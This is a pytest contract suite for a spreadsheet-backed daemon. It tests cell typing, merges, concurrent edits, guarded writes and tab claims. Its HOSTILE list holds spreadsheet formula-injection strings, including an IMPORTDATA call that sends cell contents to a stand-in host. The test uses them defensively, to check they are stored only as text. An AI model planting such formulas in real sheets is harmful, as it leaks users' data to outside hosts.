"""What every `Sheet` promises the daemon, whatever is behind it.

A rig is one empty tab and a person who works on it at the same time. A fake earns trust by passing this suite: add its
rig to `RIGS`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from contextlib import AbstractContextManager, contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Protocol

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sheetd.core.colours import Dress
from sheetd.core.curve import Curve
from sheetd.core.grid import (
    BLANK,
    CellUpdate,
    CellValue,
    Claim,
    ClaimChange,
    ColumnTag,
    Grid,
    Merge,
    Replacement,
    SheetWrite,
    Shown,
)
from sheetd.errors import SheetRefused
from sheetd.ports import Sheet
from tests.sheets.builtin_rig import BuiltinPerson, builtin_sheet, lost_updates_passed_over
from tests.sim.sheet import Person as SimulatedPerson
from tests.sim.sheet import SimSheet, Tab

HEADER = ("template", "action", "status", "message", "lr", "id")
STATUS, MESSAGE, LR, ID = 2, 3, 4, 5


class Person(Protocol):
    """Somebody with the sheet open in a browser. Rows and columns count from 0."""

    def enter(self, row: int, column: int, text: str) -> None:
        """Type into a cell: `0.1` becomes a number, `=A1` a formula."""

    def insert_row(self, row: int) -> None: ...

    def insert_column(self, column: int) -> None: ...

    def sort(self, column: int) -> None:
        """All rows below the header, by one column."""

    def merge(self, rows: tuple[int, int], columns: tuple[int, int]) -> None:
        """From the first row and column to the last, these included. What the upper left cell holds is kept."""

    def unmerge(self) -> None:
        """All cells of the tab."""

    def colleague(self) -> Sheet:
        """What another daemon has that was given the same tab."""

    def rename_tab(self, title: str) -> None: ...

    def delete_tab(self) -> None: ...


@contextmanager
def builtin(folder: Path) -> Iterator[tuple[Sheet, Person]]:
    with builtin_sheet(folder) as (sheet, address):
        person = BuiltinPerson(address, "Experiments")
        yield sheet, person
        person.close()


@contextmanager
def simulated(_folder: Path) -> Iterator[tuple[Sheet, Person]]:
    tab = Tab()
    yield SimSheet(tab), SimulatedPerson(tab)


RIGS: dict[str, Callable[[Path], AbstractContextManager[tuple[Sheet, Person]]]] = {
    "builtin": builtin,
    "simulated": simulated,
}


@contextmanager
def builtin_passing_over(folder: Path) -> Iterator[tuple[Sheet, Person]]:
    with lost_updates_passed_over(), builtin(folder) as rig:
        yield rig


@contextmanager
def simulated_passing_over(_folder: Path) -> Iterator[tuple[Sheet, Person]]:
    tab = Tab()
    tab.refuses_lost_claims = False
    yield SimSheet(tab), SimulatedPerson(tab)


#: Which of the two Google does with an update that selects nothing has not been measured, so both must do.
RIGS_THAT_PASS_OVER = {"builtin": builtin_passing_over, "simulated": simulated_passing_over}


@pytest.fixture(scope="module", params=sorted(RIGS))
def rig_of_module(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Sheet, Person]]:
    with RIGS[request.param](tmp_path_factory.mktemp("sheet")) as rig:
        yield rig


@pytest.fixture(params=sorted(RIGS))
def rig(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Sheet, Person]]:
    with RIGS[request.param](tmp_path) as rig:
        write_cells(rig[0], {(0, column): text for column, text in enumerate(HEADER)})
        yield rig


@pytest.fixture(params=sorted(RIGS_THAT_PASS_OVER))
def rig_that_passes_over(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Sheet, Person]]:
    with RIGS_THAT_PASS_OVER[request.param](tmp_path) as rig:
        yield rig


def write_cells(sheet: Sheet, cells: Mapping[tuple[int, int], Shown]) -> Grid:
    updates = tuple(CellUpdate(row=row, column=column, value=value) for (row, column), value in cells.items())
    return sheet.write(SheetWrite(tab_id=sheet.read().tab_id, updates=updates))


def values(grid: Grid) -> list[list[CellValue]]:
    return [[cell.value for cell in row] for row in grid.rows]


def test_an_empty_tab_has_no_rows(tmp_path: Path):
    for open_rig in RIGS.values():
        with open_rig(tmp_path) as (sheet, _):
            grid = sheet.read()
            assert grid.rows == ()
            assert grid.row_count >= 100
            assert grid.column_count >= len(HEADER)
            assert grid.title == "Experiments"


def test_what_a_person_enters_is_read_typed_and_as_shown(rig: tuple[Sheet, Person]):
    sheet, person = rig
    for column, text in enumerate(["0.10", "TRUE", "hello", "'007", "=1/0"]):
        person.enter(1, column, text)
    number, truth, word, zeros, broken = sheet.read().rows[1]
    assert (number.value, number.formula) == (0.1, None)
    assert (truth.value, truth.shown) == (True, "TRUE")
    assert (word.value, word.shown) == ("hello", "hello")
    assert zeros.value == "007"
    assert broken.formula == "=1/0"
    assert broken.value is None
    assert broken.error
    assert broken.shown.startswith("#")


def test_rows_are_ragged_and_what_is_not_there_is_blank(rig: tuple[Sheet, Person]):
    sheet, person = rig
    person.enter(3, 1, "x")
    grid = sheet.read()
    assert [len(row) for row in grid.rows] == [len(HEADER), 0, 0, 2]
    assert grid.rows[3][0] is BLANK
    assert grid.cell(50, 50) is BLANK


def test_a_number_is_read_as_a_double(rig: tuple[Sheet, Person]):
    sheet, person = rig
    person.enter(1, LR, "3")
    assert type(sheet.read().cell(1, LR).value) is float


def test_the_grid_is_the_very_same_object_until_something_changes(rig: tuple[Sheet, Person]):
    sheet, person = rig
    before = sheet.read()
    assert sheet.read() is before
    person.enter(1, LR, "0.1")
    after = sheet.read()
    assert after is not before
    assert sheet.read() is after


def test_a_write_is_answered_with_the_tab_as_it_is_afterwards(rig: tuple[Sheet, Person]):
    sheet, person = rig
    person.enter(1, LR, "0.1")
    answer = write_cells(sheet, {(1, STATUS): "running", (1, MESSAGE): "on gpu1"})
    assert answer.cell(1, STATUS).value == "running"
    assert answer.cell(1, LR).value == 0.1
    assert sheet.read() is answer


def test_a_write_after_a_person_inserted_a_row_shows_where_it_went(rig: tuple[Sheet, Person]):
    sheet, person = rig
    write_cells(sheet, {(1, ID): "b1", (2, ID): "b2"})
    person.insert_row(1)
    answer = write_cells(sheet, {(2, STATUS): "running"})
    assert (answer.cell(2, ID).value, answer.cell(2, STATUS).value) == ("b1", "running")


def test_merged_cells_are_told_and_the_upper_left_one_holds_what_they_show(rig: tuple[Sheet, Person]):
    sheet, person = rig
    for row in (1, 2, 3):
        person.enter(row, LR, f"0.{row}")
    assert sheet.read().merges == ()
    person.merge((1, 2), (LR, LR))
    grid = sheet.read()
    assert grid.merges == (Merge(top=1, left=LR, bottom=3, right=LR + 1),)
    assert grid.merges[0].a1 == "E2:E3"
    assert [grid.cell(row, LR).value for row in (1, 2, 3)] == [0.1, None, 0.3]
    person.insert_row(1)
    moved = write_cells(sheet, {(4, STATUS): "running"})
    assert [merge.a1 for merge in moved.merges] == ["E3:E4"], "the answer to a write tells them too"
    person.unmerge()
    assert sheet.read().merges == ()
    assert sheet.read().cell(3, LR).value is None


def test_a_write_touches_no_other_cell(rig: tuple[Sheet, Person]):
    sheet, person = rig
    for column in range(len(HEADER)):
        person.enter(1, column, f"mine {column}")
        person.enter(2, column, f"=A{column + 1}")
    before = sheet.read()
    after = write_cells(sheet, {(1, STATUS): "running", (2, STATUS): 3.0})
    assert values(after)[1] == ["mine 0", "mine 1", "running", "mine 3", "mine 4", "mine 5"]
    assert [cell for i, cell in enumerate(after.rows[2]) if i != STATUS] == [
        cell for i, cell in enumerate(before.rows[2]) if i != STATUS
    ]


def test_a_value_comes_back_with_its_type(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    meant: list[CellValue] = ["text", 1.5, -0.0, 1e300, 5e-324, 2.0**53, True, False]
    answer = write_cells(sheet, {(row, LR): value for row, value in enumerate(meant, start=1)})
    read = [answer.cell(row, LR).value for row in range(1, len(meant) + 1)]
    assert [(value, type(value)) for value in read] == [(value, type(value)) for value in meant]


def test_a_curve_is_a_formula_and_text_that_says_the_same_is_text(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    curve = Curve((0, 99, 50))
    answer = write_cells(sheet, {(1, STATUS): curve, (2, STATUS): curve.formula})
    assert curve.is_shown_by(answer.cell(1, STATUS).formula)
    assert (answer.cell(2, STATUS).value, answer.cell(2, STATUS).formula) == (curve.formula, None)


def test_none_clears_a_cell_whatever_was_in_it(rig: tuple[Sheet, Person]):
    sheet, person = rig
    for column, text in enumerate(["=1+1", "TRUE", "3", "x"]):
        person.enter(1, column, text)
    assert write_cells(sheet, {(1, column): None for column in range(4)}).rows[1:] == ()


HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'quoted",
    '=IMPORTDATA("http://example.org/?"&A1)',
    "1,5",
    "007",
    "1e5",
    "TRUE",
    "2020-01-01",
    "#REF!",
    " leading",
    "trailing\n",
    "a\u202eb",
    "\U0001f600",
    '{"values":[',
    "\\",
    '"}]}',
    "\u2028",
]


def test_text_comes_back_byte_for_byte_and_is_never_a_formula(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    answer = write_cells(sheet, {(row, MESSAGE): text for row, text in enumerate(HOSTILE, start=1)})
    for grid in (answer, sheet.read()):
        cells = [grid.cell(row, MESSAGE) for row in range(1, len(HOSTILE) + 1)]
        assert [cell.value for cell in cells] == HOSTILE
        assert all(cell.formula is None and cell.error is None for cell in cells)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    texts=st.lists(
        st.text(alphabet=st.characters(exclude_categories=("Cs",)), min_size=1, max_size=20), min_size=1, max_size=10
    )
)
def test_any_text_comes_back_byte_for_byte(rig_of_module: tuple[Sheet, Person], texts: list[str]):
    sheet, _ = rig_of_module
    answer = write_cells(sheet, {(row, MESSAGE): text for row, text in enumerate(texts, start=1)})
    assert [answer.cell(row, MESSAGE).value for row in range(1, len(texts) + 1)] == texts


def test_an_id_is_replaced_wherever_it_is_now_as_a_whole_cell_of_its_column(rig: tuple[Sheet, Person]):
    sheet, person = rig
    write_cells(sheet, {(1, ID): "b1", (2, ID): "b1x", (3, ID): "B1", (1, MESSAGE): "b1"})
    person.insert_row(1)
    tab_id = sheet.read().tab_id
    answer = sheet.write(SheetWrite(tab_id=tab_id, replacements=(Replacement(column=ID, old="b1", new="c2"),)))
    assert [answer.cell(row, ID).value for row in range(2, 5)] == ["c2", "b1x", "B1"]
    assert answer.cell(2, MESSAGE).value == "b1"


def test_replacements_are_carried_out_before_updates(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    tab_id = write_cells(sheet, {(1, ID): "b1"}).tab_id
    update = CellUpdate(row=2, column=ID, value="b1")
    answer = sheet.write(
        SheetWrite(tab_id=tab_id, updates=(update,), replacements=(Replacement(column=ID, old="b1", new=""),))
    )
    assert [answer.cell(row, ID).value for row in (1, 2)] == [None, "b1"]


def test_a_refused_write_changes_nothing_at_all(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    before = sheet.read()
    with pytest.raises(SheetRefused):
        write_cells(sheet, {(1, STATUS): "running", (before.row_count + 5, STATUS): "beyond the last row"})
    assert sheet.read() is before


def test_an_empty_write_is_a_read(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    assert sheet.write(SheetWrite(tab_id=sheet.read().tab_id)) is sheet.read()


def test_a_tab_is_still_found_after_a_person_renamed_it(rig: tuple[Sheet, Person]):
    sheet, person = rig
    tab_id = sheet.read().tab_id
    person.rename_tab("It's A1 now")
    assert (sheet.read().tab_id, sheet.read().title) == (tab_id, "It's A1 now")
    person.rename_tab("Again")
    assert write_cells(sheet, {(1, STATUS): "running"}).title == "Again"


def test_a_deleted_tab_is_refused_with_the_way_back_and_never_read_as_empty(rig: tuple[Sheet, Person]):
    sheet, person = rig
    grid = sheet.read()
    person.delete_tab()
    with pytest.raises(SheetRefused, match="was deleted"):
        sheet.read()
    with pytest.raises(SheetRefused, match=r"."):
        sheet.write(SheetWrite(tab_id=grid.tab_id, updates=(CellUpdate(row=1, column=0, value="x"),)))


def test_a_tab_is_dressed_once(rig: tuple[Sheet, Person]):
    sheet, person = rig
    grid = sheet.read()
    dress = Dress(
        tab_id=grid.tab_id,
        status_column=STATUS,
        action_column=1,
        template_column=0,
        owned_columns=(STATUS, MESSAGE, ID),
        column_count=len(HEADER),
        templates=("train", "eval"),
    )
    assert sheet.dress(dress)
    assert not sheet.dress(dress)
    person.insert_row(3)
    write_cells(sheet, {(1, STATUS): "running"})
    sheet.dress(dress)
    assert not sheet.dress(dress)
    assert sheet.read().rows[0] == grid.rows[0]


def tagged(sheet: Sheet) -> Dress:
    grid = sheet.read()
    return Dress(
        tab_id=grid.tab_id,
        status_column=STATUS,
        action_column=1,
        template_column=0,
        owned_columns=(STATUS, MESSAGE, ID),
        column_count=len(HEADER),
        templates=("train",),
        tags=(ColumnTag(STATUS, "status"), ColumnTag(MESSAGE, "message"), ColumnTag(ID, "id")),
    )


def guarded(sheet: Sheet, column: int, name: str, value: str) -> Grid:
    update = CellUpdate(row=1, column=column, value=value)
    tab_id = sheet.read().tab_id
    return sheet.write(SheetWrite(tab_id=tab_id, updates=(update,), guards=(ColumnTag(column, name),)))


def test_a_guarded_write_meets_the_column_that_was_meant_or_none(rig: tuple[Sheet, Person]):
    """S5: a column is inserted between a read and the write that was planned from it."""
    sheet, person = rig
    assert sheet.dress(tagged(sheet))
    assert values(guarded(sheet, STATUS, "status", "running"))[1][STATUS] == "running"
    person.insert_column(STATUS)
    before = values(sheet.read())
    with pytest.raises(SheetRefused):
        guarded(sheet, STATUS, "status", "failed")
    assert values(sheet.read()) == before
    assert values(guarded(sheet, STATUS + 1, "status", "failed"))[1][STATUS + 1] == "failed"


def test_a_guard_asks_for_the_column_of_its_name_and_no_other_of_ours(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    sheet.dress(tagged(sheet))
    with pytest.raises(SheetRefused):
        guarded(sheet, MESSAGE, "status", "running")


def test_a_column_that_was_never_tagged_is_guarded_by_nothing_and_so_refused(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    with pytest.raises(SheetRefused):
        guarded(sheet, STATUS, "status", "running")


def test_a_dress_puts_right_what_columns_are_tagged(rig: tuple[Sheet, Person]):
    sheet, person = rig
    sheet.dress(tagged(sheet))
    person.insert_column(STATUS)
    sheet.read()
    moved = (ColumnTag(STATUS, "status"), ColumnTag(MESSAGE + 1, "message"), ColumnTag(ID + 1, "id"))
    sheet.dress(replace(tagged(sheet), tags=moved))
    guarded(sheet, STATUS, "status", "running")
    with pytest.raises(SheetRefused):
        guarded(sheet, STATUS + 1, "status", "running")


MINE = Claim(epoch=1, owner="mine", stamp=1, where="ada@lab:/home/ada/.sheetd", hosts=("00ff", "11ee"))
THEIRS = Claim(epoch=7, owner="theirs", stamp=4, where='caf\u00e9 \U0001f600 "{}\\')


def claim(sheet: Sheet, old: Claim | None, new: Claim, cells: dict[tuple[int, int], CellValue] | None = None) -> Grid:
    updates = tuple(CellUpdate(row=row, column=column, value=value) for (row, column), value in (cells or {}).items())
    return sheet.write(SheetWrite(tab_id=sheet.read().tab_id, updates=updates, claim=ClaimChange(old=old, new=new)))


def test_a_tab_is_claimed_by_nobody_at_first(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    assert sheet.read().claim is None


@pytest.mark.parametrize("meant", [MINE, THEIRS, Claim(0, "", -1), Claim(2**53, "o", 2**60, "", ("=1+1", "'x"))])
def test_a_claim_comes_back_as_it_was_in_the_answer_and_to_everybody(rig: tuple[Sheet, Person], meant: Claim):
    sheet, person = rig
    answer = claim(sheet, None, meant)
    assert answer.claim == meant
    assert sheet.read() is answer
    assert person.colleague().read().claim == meant


def test_of_two_who_claim_a_tab_of_nobody_the_first_succeeds_and_the_other_changes_nothing(rig: tuple[Sheet, Person]):
    sheet, person = rig
    other = person.colleague()
    assert other.read().claim is None
    claimed = claim(sheet, None, MINE, {(1, STATUS): "mine"})
    with pytest.raises(SheetRefused):
        claim(other, None, THEIRS, {(1, STATUS): "theirs"})
    assert other.read() == claimed == sheet.read()


def test_a_claim_is_changed_from_exactly_the_old_one(rig: tuple[Sheet, Person]):
    sheet, person = rig
    claim(sheet, None, MINE)
    later = MINE._replace(stamp=2)
    assert claim(sheet, MINE, later, {(1, STATUS): "running"}).claim == later
    assert claim(person.colleague(), later, THEIRS).claim == THEIRS
    assert sheet.read().claim == THEIRS


@pytest.mark.parametrize(
    "guess",
    [
        THEIRS._replace(stamp=5),
        THEIRS._replace(epoch=8),
        THEIRS._replace(owner="their"),
        THEIRS._replace(where=""),
        THEIRS._replace(hosts=("00ff",)),
        MINE,
    ],
)
def test_a_claim_that_is_another_by_now_refuses_the_whole_write(rig: tuple[Sheet, Person], guess: Claim):
    sheet, _ = rig
    before = claim(sheet, None, THEIRS)
    with pytest.raises(SheetRefused):
        claim(sheet, guess, MINE, {(1, STATUS): "mine"})
    assert sheet.read() == before


def test_or_it_is_passed_over_and_the_answer_shows_whose_the_tab_is(rig_that_passes_over: tuple[Sheet, Person]):
    sheet, person = rig_that_passes_over
    claim(sheet, None, MINE)
    claim(person.colleague(), MINE, THEIRS)
    answer = claim(sheet, MINE, MINE._replace(stamp=2), {(1, STATUS): "mine"})
    assert answer.claim == THEIRS
    assert answer.cell(1, STATUS).value == "mine"


def test_also_then_a_tab_of_nobody_is_claimed_once(rig_that_passes_over: tuple[Sheet, Person]):
    sheet, person = rig_that_passes_over
    claimed = claim(sheet, None, MINE)
    with pytest.raises(SheetRefused):
        claim(person.colleague(), None, THEIRS, {(1, STATUS): "theirs"})
    assert sheet.read() == claimed


def test_a_claim_that_nobody_has_made_cannot_be_changed(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    with pytest.raises(SheetRefused):
        claim(sheet, MINE, THEIRS)
    assert sheet.read().claim is None


def test_a_refused_write_leaves_the_claim_too(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    claim(sheet, None, MINE)
    beyond = (sheet.read().row_count + 5, STATUS)
    with pytest.raises(SheetRefused):
        claim(sheet, MINE, THEIRS, {beyond: "beyond the last row"})
    assert sheet.read().claim == MINE


def test_writes_without_a_claim_leave_it(rig: tuple[Sheet, Person]):
    sheet, _ = rig
    claim(sheet, None, MINE)
    assert write_cells(sheet, {(1, STATUS): "running"}).claim == MINE


def test_the_claim_stays_with_the_tab_while_people_sort_insert_and_rename(rig: tuple[Sheet, Person]):
    sheet, person = rig
    claim(sheet, None, MINE)
    for row, text in enumerate("cab", start=1):
        person.enter(row, MESSAGE, text)
    person.sort(MESSAGE)
    assert [sheet.read().cell(row, MESSAGE).value for row in (1, 2, 3)] == ["a", "b", "c"]
    person.insert_row(1)
    person.rename_tab("Renamed")
    assert sheet.read().claim == MINE
    assert claim(sheet, MINE, MINE._replace(stamp=2)).claim == MINE._replace(stamp=2)


def test_a_claim_goes_through_once_although_the_tab_is_renamed_under_the_write(rig: tuple[Sheet, Person]):
    sheet, person = rig
    tab_id = claim(sheet, None, MINE).tab_id
    person.rename_tab("Renamed")
    later = MINE._replace(stamp=2)
    update = CellUpdate(row=1, column=STATUS, value="running")
    answer = sheet.write(SheetWrite(tab_id=tab_id, updates=(update,), claim=ClaimChange(old=MINE, new=later)))
    assert (answer.title, answer.claim, answer.cell(1, STATUS).value) == ("Renamed", later, "running")


def test_where_google_passes_over_a_guard_the_write_goes_on_without_it(rig_that_passes_over: tuple[Sheet, Person]):
    sheet, _ = rig_that_passes_over
    write_cells(sheet, {(0, column): text for column, text in enumerate(HEADER)})
    sheet.dress(tagged(sheet))
    assert values(guarded(sheet, STATUS, "status", "running"))[1][STATUS] == "running"
